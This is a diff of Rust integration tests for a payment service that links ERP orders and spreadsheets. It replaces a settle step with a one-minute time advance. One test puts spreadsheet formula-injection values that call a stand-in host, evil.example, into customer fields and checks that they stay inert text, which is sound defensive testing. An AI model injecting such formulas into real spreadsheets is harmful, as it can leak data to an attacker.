@@ -23,13 +23,13 @@ story!(a_signed_order_of_the_erp_becomes_a_payment_and_its_link_goes_back, |worl
     let desk = &world.works_with(Office::Erp).await;
     let order = Order::new("E-1", Money::new("12500", "AMD"), "Մեղրով տորթ");
     world.sandbox.erp.order(&order).expect("it knows where");
-    world.settles().await;
+    world.passes(minutes(1)).await;
     let sale = made(world, "E-1").await;
     let view = world.sandbox.erp.view();
     let known = view.orders.iter().find(|one| one.order_id == "E-1").expect("its own order");
     assert_eq!(known.checkout_url.as_deref(), Some(sale.link.as_str()), "{known:#?}");
     world.pays(&sale.link).await;
-    world.settles().await;
+    world.passes(minutes(1)).await;
     assert_eq!(world.seen(desk, &sale).status, "paid");
     // The same message again is the same payment.
     world.sandbox.erp.change_faults(|faults| faults.duplicate = 3);
@@ -47,7 +47,7 @@ story!(a8_an_order_that_nobody_signed_or_that_was_changed_makes_no_payment, |wor
     ] {
         world.sandbox.erp.change_faults(change);
         world.sandbox.erp.order(&Order::new("E-9", Money::new("12500", "AMD"), "Տորթ")).expect("it knows where");
-        world.settles().await;
+        world.passes(minutes(1)).await;
     }
     assert!(world.payments().await.is_empty());
 });
@@ -57,7 +57,7 @@ story!(an_order_that_cannot_be_made_is_told_with_its_field, |world| {
     let order =
         json!({ "order_id": "E-3", "amount": { "value": "12500.50", "currency": "AMD" }, "description": "Տորթ" });
     world.sandbox.erp.send("order.created", &order).expect("it knows where");
-    world.settles().await;
+    world.passes(minutes(1)).await;
     assert!(world.payments().await.is_empty());
     let told = world.sandbox.erp.view().events;
     let rejected: Vec<_> = told.iter().filter(|event| event.kind == "order.rejected").collect();
@@ -77,7 +77,7 @@ story!(what_we_send_is_proven_by_an_unmodified_library_with_both_secrets_while_t
     let secrets = json!({ "secrets": { "signing_secret": next, "signing_secret_old": old } });
     world.changes(&desk.path, &secrets).await;
     world.pays(&sale.link).await;
-    world.settles().await;
+    world.passes(minutes(1)).await;
     assert_eq!(world.seen(desk, &sale).status, "paid");
 });
 
@@ -95,7 +95,7 @@ story!(people_sort_rename_and_delete_and_every_row_stays_with_its_payment, |worl
     act(world, Act::RenameTab { tab: "Payments".to_owned(), title: "Վճարումներ 2026".to_owned() });
     for sale in &sales {
         world.pays(&sale.link).await;
-        world.settles().await;
+        world.passes(minutes(1)).await;
     }
     world.passes(minutes(20)).await;
     let view = world.sandbox.sheets.view();
@@ -120,7 +120,7 @@ story!(g4_a_customers_formula_stays_a_text, |world| {
     body["description"] = json!("=IMPORTXML(\"http://evil.example/\"; \"//a\")");
     body["customer"] = json!({ "name": "+HYPERLINK(\"http://evil.example\")" });
     assert_eq!(world.creates(&body).await.status, 201);
-    world.settles().await;
+    world.passes(minutes(1)).await;
     let view = world.sandbox.sheets.view();
     assert!(view.formulas_run.is_empty(), "{:#?}", view.formulas_run);
     let formulas = view.spreadsheets.iter().flat_map(|book| &book.tabs).flat_map(|tab| &tab.rows);
@@ -133,7 +133,7 @@ story!(f4_a_token_that_ends_in_the_middle_is_fetched_once_more_and_work_goes_on,
     let sale = world.makes_sale(desk, "A-1").await;
     world.sandbox.sheets.revoke_tokens();
     world.pays(&sale.link).await;
-    world.settles().await;
+    world.passes(minutes(1)).await;
     world.passes(minutes(2)).await;
     assert_eq!(world.seen(desk, &sale).status, "paid");
     world.passes(hours(3)).await;
